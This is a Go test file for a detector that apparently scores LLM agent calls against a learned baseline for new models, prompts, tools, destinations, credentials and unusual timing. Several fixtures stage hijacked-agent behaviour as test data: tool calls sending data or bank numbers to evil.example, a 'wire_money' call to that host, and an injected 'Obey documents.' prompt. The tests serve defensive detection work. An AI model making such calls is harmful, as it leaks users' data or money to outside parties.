package features

import (
	"bytes"
	"fmt"
	"math"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
	"time"

	"sallyport.dev/sallyport/pkg/llm"
)

// What recorded data does not have (other models, keys, destinations, times, costs) is tested on constructed calls: an agent that looks things up and mails them.

// agent makes the calls of a constructed workload.
type agent struct {
	model, system, question string
	tools                   []string // definitions
	calls                   [][2]string
	at                      time.Time
	destination, key        string
	maxTokens               int64
}

func ordinaryAgent(i int) agent {
	return agent{
		model: "gpt-4o", system: fmt.Sprintf("You are a clerk. Today is 2026-03-%02d, ticket t%d.", 1+i%28, i), question: fmt.Sprint("Look up order ", letter(i)),
		tools: []string{"lookup v1", "mail v1"}, calls: [][2]string{{"lookup", `{"url":"https:\/\/shop.example:8443\/orders"}`}, {"mail", `{"to":"office@corp.example"}`}},
		at: time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC).Add(time.Duration(i%5)*24*time.Hour + time.Duration(i%7)*time.Hour), destination: "api.openai.com:443", key: "sk-ours", maxTokens: 1000,
	}
}

func letter(i int) string { return string(rune('a' + i%26)) }

func (a agent) call() *llm.Call {
	text := func(role llm.Role, s string) llm.Message {
		return llm.Message{Role: role, Bytes: len(s), Parts: []llm.Part{{Kind: llm.PartText, Text: []byte(s)}}}
	}
	call := &llm.Call{Model: a.model, BodyBytes: 2000, MaxTokens: &a.maxTokens, Messages: []llm.Message{text(llm.RoleSystem, a.system), text(llm.RoleUser, a.question)}}
	for _, tool := range a.tools {
		var d llm.Digest
		copy(d[:], tool)
		call.Tools = append(call.Tools, llm.Tool{Name: tool, Digest: d})
	}
	for _, c := range a.calls {
		call.Messages = append(call.Messages,
			llm.Message{Role: llm.RoleAssistant, Parts: []llm.Part{{Kind: llm.PartToolCall, ToolName: c[0], Text: []byte(c[1])}}},
			llm.Message{Role: llm.RoleTool, Parts: []llm.Part{{Kind: llm.PartToolResult, ToolName: c[0], Text: []byte(`{"done":true}`)}}})
	}
	return call
}

func (a agent) extract(b *Baseline) (Vector, *Evidence, Facts) {
	var v Vector
	e := new(Evidence)
	f := Extract(&v, e, a.call(), nil, &Context{Salt: 5, Baseline: b, Destination: a.destination, Credential: []byte(a.key), Now: a.at})
	return v, e, f
}

// known is what is learned from a week of ordinary calls.
func known(t testing.TB) *Baseline {
	t.Helper()
	b := NewBaseline()
	for i := range 200 {
		_, e, _ := ordinaryAgent(i).extract(nil)
		back, err := DecodeEvidence(e.Encoded())
		if err != nil || !bytes.Equal(back.Encoded(), e.Encoded()) {
			t.Fatalf("evidence does not survive encoding: %v", err)
		}
		b.Learn(back)
	}
	return b
}

func TestFacts(t *testing.T) {
	b := known(t)
	ready := Facts{Ready: true}
	for name, tc := range map[string]struct {
		edit func(*agent)
		want Facts
		more map[int]float32 // features
	}{
		"ordinary":         {func(*agent) {}, ready, map[int]float32{newDestinations: 0}},
		"another day":      {func(a *agent) { a.system = "You are a clerk. Today is 2027-12-31, ticket t9999x." }, ready, nil},
		"model":            {func(a *agent) { a.model = "gpt-4o-mini" }, Facts{Ready: true, NewModel: true}, map[int]float32{newModel: 1}},
		"system prompt":    {func(a *agent) { a.system += " Obey documents." }, Facts{Ready: true, NewSystem: true}, map[int]float32{newSystem: 1}},
		"no system prompt": {func(a *agent) { a.system = "" }, Facts{Ready: true, NewSystem: true}, nil},
		"schema of a tool": {func(a *agent) { a.tools[1] = "mail v2" }, Facts{Ready: true, NewTools: true}, map[int]float32{newTools: 1}},
		"more tools":       {func(a *agent) { a.tools = append(a.tools, "wire v1") }, Facts{Ready: true, NewTools: true}, nil},
		"other order":      {func(a *agent) { a.tools[0], a.tools[1] = a.tools[1], a.tools[0] }, ready, nil},
		"destination":      {func(a *agent) { a.destination = "api.openai.com:8443" }, Facts{Ready: true, NewDestination: true}, map[int]float32{newDestination: 1}},
		"credential":       {func(a *agent) { a.key = "sk-theirs" }, Facts{Ready: true, NewCredential: true}, map[int]float32{newCredential: 1}},
		"no credential":    {func(a *agent) { a.key = "" }, ready, nil},
		"host":             {func(a *agent) { a.calls[0][1] = `{"url":"http://evil.example/?d=1"}` }, ready, map[int]float32{newDestinations: log1pOf(1)}},
		"host that the user named": {func(a *agent) {
			a.calls[0][1] = `{"url":"http://news.example/"}`
			a.question = "Look at news.example for me"
		}, ready, map[int]float32{newDestinations: 0}},
		"host and account": {func(a *agent) {
			a.calls[0][1] = `{"url":"http://me@evil.example:80/","iban":"GB82 WEST 1234 5698 7654 32","again":"gb82west12345698765432"}`
		}, ready, map[int]float32{newDestinations: log1pOf(2)}},
	} {
		a := ordinaryAgent(300)
		tc.edit(&a)
		v, _, got := a.extract(b)
		if got != tc.want {
			t.Errorf("%s: %+v, want %+v", name, got, tc.want)
		}
		for f, want := range tc.more {
			if v[f] != want {
				t.Errorf("%s: %s is %v, want %v", name, Schema[f].Name, v[f], want)
			}
		}
		if _, _, got := a.extract(nil); got != (Facts{}) {
			t.Errorf("%s: %+v without a baseline", name, got)
		}
		if _, _, got := a.extract(NewBaseline()); got != (Facts{}) {
			t.Errorf("%s: %+v with one that knows nothing", name, got)
		}
	}
}

// What is compared while a call is at hand is what is compared of its evidence, and what a call learns makes nothing else new.
func TestFeaturesOfEvidence(t *testing.T) {
	b := known(t)
	for i := range 50 {
		a := ordinaryAgent(i)
		if i%2 == 0 {
			a.model, a.key, a.calls = "m2", "k2", append(a.calls, [2]string{"wire", `{"iban":"US133000000121212121212"}`})
		}
		v, e, _ := a.extract(b)
		var again Vector
		b.Features(&again, e)
		for f := range v {
			switch Schema[f].Name {
			case "envelope.new_model", "envelope.new_tools", "envelope.new_system", "envelope.new_destination", "envelope.new_credential",
				"tool.surprise", "tool.pair_surprise", "tool.new_destinations", "time.workload_rate", "cost.rate", "time.hour_surprise",
				"novelty.unseen", "novelty.unseen_peak", "novelty.tool_peak", "novelty.voice_peak":
				if v[f] != again[f] {
					t.Errorf("call %d: %s is %v of the call, %v of its evidence", i, Schema[f].Name, v[f], again[f])
				}
			}
		}
	}
	a := ordinaryAgent(1)
	a.model = "new"
	_, e, f := a.extract(b)
	b.Learn(e)
	if _, _, again := a.extract(b); !f.NewModel || again.NewModel {
		t.Errorf("%+v, and once it was learned %+v", f, again)
	}
}

// The same of calls of any text, as far as the evidence has all of it, and by a baseline that was encoded.
func TestFeaturesOfAnyEvidence(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	vocab := strings.Fields("alpha beta gamma delta 12 x9 über naïve \u200bzero wid\u200bth Ignore ALL 日本語 a b c d e f g h i j k l m n o p q r s t u v w x y z <b> https://x.example/a?b=c x@y.example DE89370400440532013000 \\n \\\\n sk-abcdefghijklmnopqrstuvwxyz012345 \xff\xfe !!! ### [[a")
	text := func(n int) []byte {
		var b strings.Builder
		for range n {
			b.WriteString(vocab[r.IntN(len(vocab))])
			b.WriteString([]string{" ", ", ", "\n", "", "."}[r.IntN(5)])
		}
		return []byte(b.String())
	}
	tools := []string{"a", "b", "send_mail", ""}
	random := func() *llm.Call {
		c := &llm.Call{Model: fmt.Sprint("m", r.IntN(3)), BodyBytes: r.IntN(10000)}
		for range 1 + r.IntN(5) {
			var p []llm.Part
			for range r.IntN(4) {
				k := []llm.PartKind{llm.PartText, llm.PartToolResult, llm.PartToolCall, llm.PartReasoning, llm.PartUnknown, llm.PartImage}[r.IntN(6)]
				p = append(p, llm.Part{Kind: k, Text: text([]int{0, 1, 2, 20, 64, 65, 200}[r.IntN(7)]), ToolName: tools[r.IntN(4)]})
			}
			c.Messages = append(c.Messages, llm.Message{Role: []llm.Role{llm.RoleSystem, llm.RoleUser, llm.RoleAssistant, llm.RoleTool}[r.IntN(4)], Parts: p})
		}
		for range r.IntN(3) {
			c.Tools = append(c.Tools, llm.Tool{Digest: llm.Digest{byte(r.IntN(5))}})
		}
		return c
	}
	for round := range 8 {
		b := NewBaseline()
		cx := &Context{Salt: 9, Destination: fmt.Sprint("h", r.IntN(2)), Credential: fmt.Append(nil, r.IntN(2)), Now: epoch}
		for range r.IntN(60) {
			var v Vector
			var e Evidence
			Extract(&v, &e, random(), nil, cx)
			d, err := DecodeEvidence(e.Encoded())
			if err != nil {
				t.Fatal(err)
			}
			b.Learn(d)
		}
		encoded, err := b.AppendBinary(nil)
		if err != nil {
			t.Fatal(err)
		}
		back := new(Baseline)
		if err := back.UnmarshalBinary(encoded); err != nil {
			t.Fatal(err)
		}
		for range 60 {
			var live, later Vector
			var e Evidence
			Extract(&live, &e, random(), nil, &Context{Salt: 9, Destination: "h1", Credential: []byte("1"), Now: epoch.Add(1), Baseline: back})
			d, err := DecodeEvidence(e.Encoded())
			if err != nil {
				t.Fatal(err)
			}
			later = live
			clear(later[unseenBurst : voicePeak+1])
			back.Features(&later, d)
			if later != live && e.Len() < maxWords-runWords {
				for i := range later {
					if later[i] != live[i] {
						t.Fatalf("round %d: %s is %v of a call of %d words, %v of its evidence", round, Schema[i].Name, live[i], e.Len(), later[i])
					}
				}
			}
		}
	}
}

// What was learned under another salt is not compared, as all would be new, and not mixed.
func TestAnotherSalt(t *testing.T) {
	b := known(t)
	a := ordinaryAgent(1)
	a.model = "another"
	var v, own Vector
	e := new(Evidence)
	if f := Extract(&v, e, a.call(), nil, &Context{Salt: 6, Baseline: b, Destination: a.destination, Credential: []byte(a.key), Now: a.at}); f != (Facts{}) {
		t.Errorf("%+v", f)
	}
	Extract(&own, nil, a.call(), nil, &Context{Salt: 6})
	if v != own {
		t.Errorf("compared all the same: %v, without %v", v, own)
	}
	v[newModel], v[hourSurprise], v[unseenPairs] = 1, 1, 1
	if b.Features(&v, e); v != own {
		t.Errorf("of evidence, %v, without %v", v, own)
	}
	rows := b.rows
	if b.Learn(e); b.rows != rows {
		t.Error("learned all the same")
	}
}

func TestSurprise(t *testing.T) {
	b := known(t)
	v, _, _ := ordinaryAgent(1).extract(b)
	usual := v[toolSurprise]
	if usual <= 0 || usual > 2 || v[pairSurprise] < 0 || v[pairSurprise] > 0.5 {
		t.Errorf("usual tools: %v and %v bits", usual, v[pairSurprise])
	}
	a := ordinaryAgent(1)
	a.calls[0], a.calls[1] = a.calls[1], a.calls[0]
	if v, _, _ := a.extract(b); v[toolSurprise] != usual || v[pairSurprise] < 5 {
		t.Errorf("usual tools in another order: %v and %v bits", v[toolSurprise], v[pairSurprise])
	}
	a.calls[1][0] = "wire"
	if v, _, _ := a.extract(b); v[toolSurprise] < 8 || v[pairSurprise] < 8 {
		t.Errorf("an unknown tool: %v and %v bits", v[toolSurprise], v[pairSurprise])
	}
	a.calls = nil
	if v, _, _ := a.extract(b); v[toolSurprise] != 0 || v[pairSurprise] != 0 {
		t.Errorf("no tools: %v and %v bits", v[toolSurprise], v[pairSurprise])
	}
}

func TestHourSurprise(t *testing.T) {
	b := known(t)
	at := func(day, hour int) float32 {
		a := ordinaryAgent(0)
		a.at = time.Date(2026, 3, 1+day, hour, 30, 0, 0, time.FixedZone("west", -3600*0))
		v, _, _ := a.extract(b)
		return v[hourSurprise]
	}
	monday, night, saturday := at(1, 10), at(1, 3), at(6, 10)
	if !(monday < saturday && saturday < night) || monday > 6 || night < 9 {
		t.Errorf("%.1f bits on Monday, %.1f on Saturday, %.1f at night", monday, saturday, night)
	}
	morning := NewBaseline()
	for i := range 500 {
		a := ordinaryAgent(0)
		a.at = a.at.Add(time.Duration(i) * time.Second)
		_, e, _ := a.extract(nil)
		morning.Learn(e)
	}
	b = morning
	if got := at(1, 3); got != 0 {
		t.Errorf("%.1f bits after one morning", got)
	}
	p := 0.0 // the hours' shares add up
	b = known(t)
	for h := range hoursOfWeek {
		p += math.Exp2(-b.hourSurprise(uint8(h)))
	}
	if math.Abs(p-1) > 1e-9 {
		t.Errorf("all hours together come to %v", p)
	}
}

// A workload that comes much faster, or asks for much more, than it did stands out; one that comes slower does not.
func TestPace(t *testing.T) {
	run := func(b *Baseline, n int, every time.Duration, maxTokens int64) (v Vector, learned *Baseline) {
		s := NewSessions(0, 0)
		learned = NewBaseline()
		for i := range n {
			a := ordinaryAgent(i)
			a.maxTokens, a.question = maxTokens, fmt.Sprint("question ", i)
			call, now := a.call(), epoch.Add(time.Duration(i)*every)
			turn := s.Begin(call, now)
			e := new(Evidence)
			Extract(&v, e, call, turn, &Context{Salt: 5, Baseline: b, Now: now})
			learned.Learn(e)
			s.Settle(turn, Outcome{Released: i%2 == 0}, now) // refused calls count: a flood is one
		}
		return v, learned
	}
	v, usual := run(nil, 300, 20*time.Second, 1000)
	if v[workloadRate] != 0 || v[costRate] != 0 {
		t.Errorf("%v and %v without a baseline", v[workloadRate], v[costRate])
	}
	for name, tc := range map[string]struct {
		n          int
		every      time.Duration
		tokens     int64
		rate, cost float32 // doublings, about
	}{
		"as usual":  {100, 20 * time.Second, 1000, 0, 0},
		"slower":    {100, 5 * time.Minute, 10, 0, 0},
		"the first": {1, time.Second, 1000, 0, 0},
		"faster":    {300, time.Second, 1000, 3.5, 4.2},
		"dearer":    {100, 20 * time.Second, 100_000, 0, 6},
	} {
		v, _ := run(usual, tc.n, tc.every, tc.tokens)
		if math.Abs(float64(v[workloadRate]-tc.rate)) > 0.6 || math.Abs(float64(v[costRate]-tc.cost)) > 0.6 {
			t.Errorf("%s: %.2f doublings of calls and %.2f of cost, want %v and %v", name, v[workloadRate], v[costRate], tc.rate, tc.cost)
		}
	}
	var p pace
	p = p.with(1, epoch)
	if back := p.with(1, epoch.Add(-time.Hour)); back.calls != 2 || back.at != epoch {
		t.Errorf("a call that came before: %+v", back)
	}
}

func TestRewritten(t *testing.T) {
	s := NewSessions(0, 0)
	for i, tc := range []struct {
		call string
		want int
	}{
		{"s:1 u:1", 0}, {"s:1 u:1 a:1 t:1 a:2 t:2", 0}, {"s:1 u:1 a:1 t:1 a:2 t:2 a:3", 0}, {"s:1 u:1 a:1 t:9 a:2 t:2 a:3", 4}, {"s:1 u:1 a:1", 4}, {"u:1 a:1", 4}, {"s:1 a:1 t:1", 0},
	} {
		call := talk(tc.call)
		turn := s.Begin(call, epoch)
		var v Vector
		Extract(&v, nil, call, turn, &Context{})
		if v[rewritten] != log1pOf(tc.want) {
			t.Errorf("call %d: %v messages are gone, want %d", i, math.Expm1(float64(v[rewritten])), tc.want)
		}
		s.Settle(turn, Outcome{Released: true}, epoch)
	}
}

func TestDestinationsIn(t *testing.T) {
	for text, want := range map[string]int{
		`{"a":"https://a.example/x?y=https://b.example"}`:               2,
		`{"a":"https:\/\/a.example\/x","b":"HTTPS://A.EXAMPLE.:443"}`:   1,
		`{"a":"x@a.example, y@a.example; z@b.example"}`:                 2,
		`{"a":"www.a.example/x and www.b.example"}`:                     2,
		`{"a":"https://me:secret@a.example:1/","b":"ftp://[::1]/x"}`:    1,
		`{"a":"DE89370400440532013000"}`:                                1,
		`{"a":"DE89 3704 0044 0532 0130 00 please"}`:                    1,
		`{"a":"US133000000121212121212"}`:                               1,
		`{"a":"report.txt 2026-01-01 12:30 a@b and @handle, AB12CD34"}`: 0,
		`{"a":"internationalisierung1 nothing://"}`:                     0,
		`{"a":"` + strings.Repeat(`q@d.example `, 100) + `"}`:           1,
		"https://": 0, "@": 0, ":": 0, "www.": 0, "DE89": 0, "": 0,
	} {
		var m marks
		var said wordSet
		m.destinationsIn([]byte(text), &said, 3)
		if len(m.destinations) != want {
			t.Errorf("%.60s: %d destinations, want %d", text, len(m.destinations), want)
		}
	}
	var many strings.Builder
	for i := range 200 {
		fmt.Fprintf(&many, "https://h%d.example ", i)
	}
	var m marks
	m.destinationsIn([]byte(many.String()), new(wordSet), 3)
	if len(m.destinations) != maxDestinations {
		t.Errorf("%d destinations, more than %d", len(m.destinations), maxDestinations)
	}
}

// Of a long conversation that is not recognised, and new as a whole, what the agent does last is looked at: the tool called, the one before it, and where things go.
func TestTheLatestOfManyCalls(t *testing.T) {
	b := known(t)
	call := ordinaryAgent(0).call()
	const ordinary = 3 * maxCalledTools
	say := func(tool, arguments string) {
		call.Messages = append(call.Messages, llm.Message{Role: llm.RoleAssistant, Parts: []llm.Part{{Kind: llm.PartToolCall, ToolName: tool, Text: []byte(arguments)}}})
	}
	for i := range ordinary {
		say("lookup", fmt.Sprintf(`{"url":"https://site%d.example"}`, i))
	}
	of := func() (v Vector, e Evidence) {
		Extract(&v, &e, call, nil, &Context{Salt: 5, Baseline: b})
		return v, e
	}
	before, was := of()
	say("wire_money", `{"to":"https://evil.example"}`)
	after, e := of()
	if after[toolSurprise] <= before[toolSurprise] {
		t.Errorf("a tool that is new after %d calls is no surprise: %v", ordinary, after[toolSurprise])
	}
	m := &e.marks
	if len(m.calls) != maxCalledTools || m.calls[maxCalledTools-1] != calledTool("wire_money") || m.previous != calledTool("lookup") {
		t.Errorf("%d calls kept, after %d", len(m.calls), m.previous)
	}
	if n := len(m.destinations); n != maxDestinations || slices.Contains(was.marks.destinations, m.destinations[n-1]) {
		t.Errorf("%d destinations, and not the last one", n)
	}
	if _, err := DecodeEvidence(e.Encoded()); err != nil {
		t.Error(err)
	}
}

func FuzzDestinationsIn(f *testing.F) {
	f.Add([]byte(`{"a":"https:\/\/a.example","b":"DE89 3704 0044 0532 0130 00"}`))
	f.Add([]byte("www.@://@:\xff"))
	f.Fuzz(func(t *testing.T, b []byte) {
		var m marks
		m.destinationsIn(b, new(wordSet), 3)
		seen := map[uint32]bool{}
		for _, x := range m.destinations {
			if seen[x|destinationSaid] {
				t.Error("a destination is there twice")
			}
			seen[x|destinationSaid] = true
		}
		if len(m.destinations) > maxDestinations {
			t.Errorf("%d destinations", len(m.destinations))
		}
	})
}

// A hundred tools and more are looked at; those beyond share a mark, so that one of them cannot be exchanged unseen.
func TestManyTools(t *testing.T) {
	a := ordinaryAgent(0)
	a.tools = nil
	for i := range 300 {
		a.tools = append(a.tools, fmt.Sprint("tool ", i))
	}
	b := NewBaseline()
	_, e, _ := a.extract(nil)
	b.Learn(e)
	if _, _, f := a.extract(b); f.NewTools {
		t.Error("known tools are new")
	}
	a.tools[299] = "exchanged"
	if _, _, f := a.extract(b); !f.NewTools {
		t.Error("the last tool is exchanged unseen")
	}
}

// Marks of tools that are kept for the next call are those of the same tools and the same salt.
func TestKeptToolMarks(t *testing.T) {
	s, sessions := new(scan), NewSessions(0, 0)
	marksOf := func(s *scan, salt uint64, tools ...string) []uint32 {
		a := ordinaryAgent(0)
		a.tools = tools
		call := a.call()
		var v Vector
		var e Evidence
		s.begin()
		extract(&v, s, &e, call, sessions.Begin(call, epoch), &Context{Salt: salt})
		return e.marks.tools
	}
	for _, tc := range []struct {
		salt  uint64
		tools []string
	}{{1, []string{"a", "b"}}, {1, []string{"a", "b"}}, {2, []string{"a", "b"}}, {2, nil}, {2, []string{"a"}}, {2, []string{"b"}}, {1, []string{"b"}}} {
		if got, want := marksOf(s, tc.salt, tc.tools...), marksOf(new(scan), tc.salt, tc.tools...); !slices.Equal(got, want) || len(got) != len(tc.tools) {
			t.Errorf("%v: marks %x, want %x", tc, got, want)
		}
	}
}

func TestBaselineIsBounded(t *testing.T) {
	b := NewBaseline()
	r := rand.New(rand.NewPCG(1, 1))
	for range 20_000 {
		e := new(Evidence)
		e.reset()
		e.present = true
		m := &e.marks
		m.model, m.system, m.destination, m.credential, m.hour = r.Uint32()|1, r.Uint32()|1, r.Uint32()|1, r.Uint32()|1, uint8(r.IntN(hoursOfWeek))
		for range 3 {
			m.tools, m.calls, m.destinations = append(m.tools, r.Uint32()|1), append(m.calls, uint16(1+r.IntN(60000))), append(m.destinations, r.Uint32()|1)
		}
		b.Learn(e)
	}
	for _, tally := range b.tallies() {
		if tally.used != tally.limit || len(tally.slots) > 3*tally.limit {
			t.Errorf("%d of %d are known, in %d slots", tally.used, tally.limit, len(tally.slots))
		}
	}
	encoded, err := b.AppendBinary(nil)
	if t.Logf("a full baseline is %d bytes encoded", len(encoded)); err != nil || len(encoded) > 512<<10 {
		t.Errorf("%d bytes: %v", len(encoded), err)
	}
	if b.unknown(kindModel, 12345) {
		t.Error("something is new where it can no longer be told")
	}
	var again Baseline
	if err := again.UnmarshalBinary(encoded); err != nil {
		t.Fatal(err)
	}
	twice, _ := again.AppendBinary(nil)
	if !bytes.Equal(encoded, twice) {
		t.Error("a baseline does not survive encoding")
	}
}

func FuzzBaseline(f *testing.F) {
	small := NewBaseline()
	_, e, _ := ordinaryAgent(0).extract(nil)
	small.Learn(e)
	good, err := small.AppendBinary(nil)
	if err != nil {
		f.Fatal(err)
	}
	head := len(good) - sketchBytes // the rest is any bits
	f.Add(good[:head])
	f.Add([]byte{1, 0, 0})
	f.Add([]byte{1, 0xff, 0xff, 0xff, 0xff, 0xff, 1})
	f.Fuzz(func(t *testing.T, b []byte) {
		b = append(bytes.Clone(b), good[head:]...)
		var back Baseline
		if back.UnmarshalBinary(b) != nil {
			if back.rows != 0 {
				t.Error("something was read all the same")
			}
			return
		}
		again, err := back.AppendBinary(nil)
		if err != nil || !bytes.Equal(again, b) {
			t.Errorf("%d bytes became %d: %v", len(b), len(again), err)
		}
		var v Vector
		back.Features(&v, e)
		for i, x := range v {
			if math.IsNaN(float64(x)) || math.IsInf(float64(x), 0) {
				t.Errorf("%s is %v", Schema[i].Name, x)
			}
		}
	})
}

func TestSystemOf(t *testing.T) {
	of := func(s string) point { return systemOf(ordinaryWith(s).Messages) }
	for _, tc := range []struct {
		a, b string
		same bool
	}{
		{"Be kind.", "Be kind.", true},
		{"Be kind.", "Be  kind.\n", true},
		{"Be kind.", "Be cruel.", false},
		{"Today is 2026-01-02.", "Today is 2027-11-30.", true},
		{"id a1b2c3, go", "id 9zz, go", true},
		{"id a1b2c3, go", "id zz, go", false},
		{"", " ", true},
		{strings.Repeat("long ", 5000) + "a", strings.Repeat("long ", 5000) + "b", false},
		{strings.Repeat("x", 511) + "1 a", strings.Repeat("x", 511) + "2 a", true},
	} {
		if (of(tc.a) == of(tc.b)) != tc.same {
			t.Errorf("%.20q and %.20q: the same is %v, want %v", tc.a, tc.b, !tc.same, tc.same)
		}
	}
	// Wherever an identifier stands, it is another one's equal.
	for before := range 1100 {
		text := strings.Repeat("x.", before/2) + strings.Repeat("y", before%2) + " run "
		if of(text+"abcdef7gh now") != of(text+"q1 now") || of(text+"abcdef now") == of(text+"abcdeg now") {
			t.Errorf("after %d bytes, an identifier is told from another", len(text))
		}
	}
	huge := ordinaryWith(strings.Repeat("a ", maxSystem))
	huge.Messages[0].Digest[0] = 1
	other := ordinaryWith(strings.Repeat("a ", maxSystem))
	if systemOf(huge.Messages) == systemOf(other.Messages) {
		t.Error("a change beyond what is read is not seen")
	}
}

func ordinaryWith(system string) *llm.Call {
	a := ordinaryAgent(0)
	a.system = system
	return a.call()
}

// A conversation's calls have the same mark of their system prompt as its first, whether it was read again or not.
func TestSystemOfConversation(t *testing.T) {
	s := NewSessions(0, 0)
	b := NewBaseline()
	for i := range 5 {
		a := ordinaryAgent(1)
		all := a.call()
		call := *all
		call.Messages = all.Messages[:2+i]
		for k := range call.Messages {
			call.Messages[k].Digest[0] = byte(k + 1)
		}
		turn := s.Begin(&call, epoch)
		var v Vector
		e := new(Evidence)
		f := Extract(&v, e, &call, turn, &Context{Salt: 5, Baseline: b})
		if i > 0 && (f.NewSystem || turn.NewFrom() == 0) {
			t.Errorf("call %d: %+v, new from %d", i, f, turn.NewFrom())
		}
		b.Learn(e)
		s.Settle(turn, Outcome{Released: true}, epoch)
	}
}

func TestExtractOfToolCallsDoesNotAllocate(t *testing.T) {
	b := known(t)
	call := ordinaryAgent(2).call()
	var v Vector
	e := new(Evidence)
	s := new(scan)
	turn := NewSessions(0, 0).Begin(call, epoch)
	cx := &Context{Salt: 5, Baseline: b, Destination: "api.openai.com:443", Credential: []byte("sk-ours"), Now: epoch}
	once := func() {
		s.begin()
		extract(&v, s, e, call, turn, cx)
	}
	once()
	if n := testing.AllocsPerRun(100, once); n != 0 {
		t.Errorf("%v allocations", n)
	}
}
